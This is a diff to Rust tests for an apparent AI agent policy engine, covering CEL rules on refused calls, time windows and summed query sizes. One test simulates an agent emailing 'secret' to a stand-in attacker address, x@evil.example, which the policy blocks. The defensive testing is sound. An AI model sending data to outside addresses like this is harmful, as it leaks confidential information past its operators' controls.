@@ -235,6 +235,7 @@ impl Harness {
         runtime.max_agent_depth = previous.max_agent_depth;
         runtime.agent_timeout = previous.agent_timeout;
         runtime.checkpoints = previous.checkpoints;
+        runtime.clock = previous.clock;
     }
 
     /// Replaces a check after loading. The checker rejects ill-typed CEL, so these
@@ -1263,4 +1264,151 @@ async fn agx_v1_review_when_asks_the_reviewer_only_when_it_holds() {
             .text()
             .contains("review condition could not be evaluated")
     );
+}
+
+/// AGX-E2: the calls refused so far are visible to rules by name and stage, so that a
+/// policy can lock down after an attempt; their inputs and reasons are not.
+#[tokio::test]
+async fn agx_e2_refused_calls_are_visible_to_rules() {
+    let agent = agent_yaml(
+        r#"    input_restriction:
+      assertion: >-
+        recent.hr_kb_search.inputs.knowledge_base_id.startsWith("acme/")
+        && !refused.exists(r, r.name == "send_email" && r.stage == "input_restriction")"#,
+        "",
+    );
+    // Allowed: with nothing refused, both searches run.
+    let h = harness(&agent);
+    let outcome = h
+        .run(vec![
+            kb_call("acme/hr/a"),
+            kb_call("acme/hr/b"),
+            text("done"),
+        ])
+        .await;
+    assert!(completed(&outcome), "{:?}", outcome.status);
+    assert_eq!(h.kb.calls(), 2);
+    // Denied: after the refused email, the same search is refused too.
+    let h = harness(&agent);
+    let outcome = h
+        .run(vec![
+            kb_call("acme/hr/a"),
+            call(
+                "send_email",
+                json!({"to": "x@evil.example", "body": "secret"}),
+            ),
+            kb_call("acme/hr/a"),
+            text("done"),
+        ])
+        .await;
+    assert_eq!(h.kb.calls(), 1);
+    assert_eq!(
+        refused_stages(&outcome),
+        ["input_restriction", "input_restriction"]
+    );
+    // A refused call shows its name and stage only: the reason and the refused input
+    // are not part of what rules see.
+    let mut h = harness(&agent);
+    h.set_input_assertion(
+        "refused.all(r, size(r) == 2 && r.name == 'send_email' && r.stage == 'input_restriction')",
+    );
+    let outcome = h
+        .run(vec![
+            call(
+                "send_email",
+                json!({"to": "x@evil.example", "body": "secret"}),
+            ),
+            kb_call("acme/hr/a"),
+            text("done"),
+        ])
+        .await;
+    assert_eq!(h.kb.calls(), 1, "{:?}", refused_stages(&outcome));
+}
+
+/// A clock that moves on by `step` every time it is read.
+#[derive(Debug)]
+struct SteppingClock {
+    next: Mutex<i128>,
+    step: i128,
+}
+
+impl agentc_runtime::Clock for SteppingClock {
+    fn now(&self) -> Option<agentc_cel::Timestamp> {
+        let mut next = self.next.lock().unwrap();
+        let now = *next;
+        *next += self.step;
+        agentc_cel::Timestamp::from_unix_nanos(now)
+    }
+}
+
+/// AGX-T1: each call carries when it started and ended, `now` is when the check runs,
+/// and a rule can bound the calls in a time window, the pending call included.
+#[tokio::test]
+async fn agx_t1_a_time_window_counts_recent_calls_only() {
+    // At most one search per hour; the pending call has started now and not ended,
+    // and its output is checked when it has ended.
+    let agent = agent_yaml(
+        r#"    input_restriction:
+      assertion: >-
+        recent.hr_kb_search.started_at == now && !has(recent.hr_kb_search.ended_at)
+        && history.hr_kb_search.filter(c, c.started_at > now - duration("1h")).size() == 0
+    output_restriction:
+      assertion: recent.hr_kb_search.ended_at == now && now > recent.hr_kb_search.started_at"#,
+        "",
+    );
+    let mut h = harness(&agent);
+    // Each reading is 20 minutes after the one before: the engagement starts at 0, the
+    // first search runs from 20 to 40, the second asks at 60 (the first is 40 minutes
+    // old: refused), the third at 80 (the first started 60 minutes before: allowed).
+    h.runtime.clock = Arc::new(SteppingClock {
+        next: Mutex::new(1_800_000_000 * 1_000_000_000),
+        step: 20 * 60 * 1_000_000_000,
+    });
+    let outcome = h
+        .run(vec![
+            kb_call("acme/hr/a"),
+            kb_call("acme/hr/b"),
+            kb_call("acme/hr/c"),
+            text("done"),
+        ])
+        .await;
+    assert!(completed(&outcome), "{:?}", outcome.status);
+    assert_eq!(h.kb.calls(), 2);
+    assert_eq!(refused_stages(&outcome), ["input_restriction"]);
+    let history = &outcome.engagement["history"]["hr_kb_search"];
+    assert_eq!(history[0]["started_at"], "2027-01-15T08:20:00Z");
+    assert_eq!(history[0]["ended_at"], "2027-01-15T08:40:00Z");
+    assert_eq!(history[1]["started_at"], "2027-01-15T09:20:00Z");
+}
+
+/// AGX-T1: `sum()` bounds a total over a window, the pending call's amount included, so
+/// that calls cannot each pass alone.
+#[tokio::test]
+async fn agx_t1_a_sum_over_a_window_includes_the_pending_call() {
+    let agent = agent_yaml(
+        r#"    input_restriction:
+      assertion: >-
+        history.hr_kb_search.filter(c, c.started_at > now - duration("1h"))
+          .map(c, size(c.inputs.query)).sum() + size(recent.hr_kb_search.inputs.query) <= 10"#,
+        "",
+    );
+    let search = |query: &str| {
+        call(
+            "hr_kb_search",
+            json!({"knowledge_base_id": "acme/hr/a", "query": query}),
+        )
+    };
+    let h = harness(&agent);
+    let outcome = h
+        .run(vec![
+            search("abcd"),
+            search("efgh"),
+            search("ijk"),
+            search("xy"),
+            text("done"),
+        ])
+        .await;
+    // 4 + 4 = 8 pass; 8 + 3 = 11 is refused; 8 + 2 = 10 passes.
+    assert_eq!(h.kb.calls(), 3);
+    assert_eq!(refused_stages(&outcome), ["input_restriction"]);
 }
